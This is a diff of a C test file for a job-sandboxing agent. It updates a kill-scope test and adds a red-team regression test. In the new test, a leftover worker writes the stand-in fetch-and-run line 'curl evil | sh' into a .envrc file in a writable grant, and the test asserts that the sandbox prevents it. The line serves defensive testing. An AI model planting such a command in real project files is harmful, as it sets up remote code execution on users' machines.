@@ -205,7 +205,11 @@ BOTH(the_job_cannot_open_its_inits_memory) {
   json_decref(r.res);
 }
 
-BOTH(kill_scope_is_null_for_a_job_that_ends_alone_and_the_namespace_else) {
+/* An isolated job's tree always ends with its namespace: a job that ends
+ * alone has nothing of it counted, one that leaves a process has it
+ * ended (counted too, unless bwrap's init took it down a moment before
+ * the agent looked). */
+BOTH(kill_scope_of_an_isolated_job_is_its_pid_namespace) {
   char m[256];
   snprintf(
       m, sizeof(m),
@@ -216,7 +220,7 @@ BOTH(kill_scope_is_null_for_a_job_that_ends_alone_and_the_namespace_else) {
   x.json = true;
   struct sbx_run r = sbx_run_agent(&x);
   sbx_assert_ran(&r, "isolated");
-  cr_assert(json_is_null(jget(r.res, "kill_scope")), "nothing was left to kill");
+  cr_assert_str_eq(sbx_jstr(r.res, "kill_scope"), "pid-namespace");
   cr_assert_eq(json_integer_value(jget(r.res, "orphans_killed")), 0);
   json_decref(r.res);
   char script[128];
@@ -225,7 +229,37 @@ BOTH(kill_scope_is_null_for_a_job_that_ends_alone_and_the_namespace_else) {
   r = sbx_run_agent(&x);
   sbx_assert_ran(&r, "isolated");
   cr_assert_str_eq(sbx_jstr(r.res, "kill_scope"), "pid-namespace");
-  cr_assert_geq(json_integer_value(jget(r.res, "orphans_killed")), 1);
   cr_assert(!worker_alive(E.marker), "the job's leftover outlived it");
   json_decref(r.res);
+}
+
+/* The red team's survivor wrote .envrc into a writable grant after the
+ * result, the quarantine walk done; the job now ends before that walk. */
+BOTH(a_rewritten_inits_worker_cannot_write_a_grant_after_the_result) {
+  xsystem("mkdir -p %s/proj && chown -R %s: %s/proj", E.u.home, E.u.name, E.u.home);
+  char m[512], s[1024];
+  snprintf(m, sizeof(m),
+           "{\"name\":\"t\",\"version\":\"1\",\"entry\":[\"/bin/sh\",\"run.sh\"],\"timeout_s\":20,"
+           "\"capabilities\":{\"fs\":[{\"path\":\"~/proj\",\"access\":\"rw\"}]}}");
+  snprintf(s, sizeof(s),
+           "sleep %s &\n"
+           "(until [ -e /cordon/workspace/patched ]; do sleep 0.05; done; sleep 1;"
+           " echo 'curl evil | sh' > ~/proj/.envrc) &\n"
+           "until [ -e /cordon/workspace/patched ]; do sleep 0.05; done\n"
+           "exit 0\n",
+           E.marker);
+  sbx_package_files(&E.d, m, s);
+  pid_t agent = agent_start();
+  pid_t init = find_init(agent);
+  rewrite_init(init, event_fd_of(init), E.u.uid, E.u.gid);
+  int st;
+  json_t *res = agent_wait(agent, &st);
+  cr_assert(res, "no result");
+  cr_assert_eq(json_integer_value(jget(res, "exit_code")), 0);
+  usleep(1500 * 1000); /* past the worker's second */
+  char p[512];
+  snprintf(p, sizeof(p), "%s/proj/.envrc", E.u.home);
+  cr_assert(access(p, F_OK) != 0, "a worker of the job wrote %s after its result", p);
+  assert_job_gone(init, E.marker);
+  json_decref(res);
 }
